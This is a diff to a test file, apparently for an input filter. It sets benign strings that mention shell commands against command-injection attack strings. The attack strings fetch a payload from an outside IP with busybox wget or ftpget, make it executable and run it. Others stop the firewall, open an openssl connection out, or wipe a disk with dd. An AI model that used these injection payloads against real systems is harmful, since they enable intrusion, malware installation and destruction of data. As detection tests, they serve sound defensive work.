@@ -51,6 +51,40 @@ const KINDS: HonestKinds = {
       asked('/s', { v: 'x`(a|sh)`' }),
     ],
   },
+  'programs that people name, and tell each other to run': {
+    honest: [
+      asked('/search', { q: '`systemctl stop nginx` or `chmod 600 a.key`' }),
+      filled({ comment: 'Please run `chmod 755 deploy.sh`, then `sudo systemctl restart nginx`.' }),
+      sent({ rule: 'objs := $(patsubst %.c,%.o,$(wildcard *.c))' }),
+      sent({ note: 'I used `/bin/busybox wget http://a.example/x` to get it.' }),
+      sent({ columns: 'time;id', order: 'start;time' }),
+      asked('/files', { path: '/tmp/report.csv' }),
+      sent({ script: "$(document).ready(() => $('#a').hide())" }),
+    ],
+    attacks: [
+      ...['$', 'x$'].flatMap(start =>
+        [
+          '/bin/busybox wget -g 198.51.100.7 -l /tmp/x',
+          'chmod 777 /tmp/x',
+          'openssl s_client -connect 198.51.100.7:443',
+          'systemctl stop firewalld',
+          '/tmp/x',
+          '/dev/shm/.x -d',
+          'dd if=/dev/zero of=/dev/sda',
+        ].flatMap(command => [
+          asked('/s', { q: `${start}(${command})` }),
+          sent({ to: `${start}(${command})` }),
+        ]),
+      ),
+      ...['sudo id', 'nohup id', 'timeout 5 id', '/usr/bin/env whoami', 'busybox id'].flatMap(command => [
+        asked('/s', { q: `x;${command}` }),
+        sent({ to: `x|${command}` }),
+      ]),
+      asked('/s', { q: '`/bin/busybox wget http://198.51.100.7/x -O /tmp/x`' }),
+      asked('/s', { q: 'x`openssl s_client -connect 198.51.100.7:443`' }),
+      asked('/s', { q: ';ftpget 198.51.100.7 x' }),
+    ],
+  },
   'heights, in feet and inches': {
     honest: [
       asked('/search', { q: `5' 11" or 6' 2"` }),
